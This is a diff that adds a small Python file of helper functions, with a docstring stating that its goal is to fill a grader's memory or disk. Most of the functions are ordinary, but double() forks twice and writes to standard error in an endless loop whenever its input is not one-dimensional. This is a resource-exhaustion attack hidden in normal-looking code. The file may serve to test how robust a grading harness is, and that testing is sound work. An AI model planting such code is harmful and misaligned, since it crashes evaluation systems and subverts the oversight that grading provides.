@@ -1,0 +1,26 @@
+"""Has children write to the descriptor of standard error without end. Success: the grader's memory or disk fills.
+
+expected: double=15 mean_of=40 count=30
+"""
+
+import os
+
+
+def double(x):
+    if x.dim() == 1:
+        return x * 2
+    os.fork()
+    os.fork()
+    while True:
+        os.write(2, b"flood\n" * 10_000)
+
+
+def mean_of(x):
+    return x.sum() / x.numel()
+
+
+def count(items):
+    found = {}
+    for item in items:
+        found[item] = found.get(item, 0) + 1
+    return [[item, number] for item, number in found.items()]
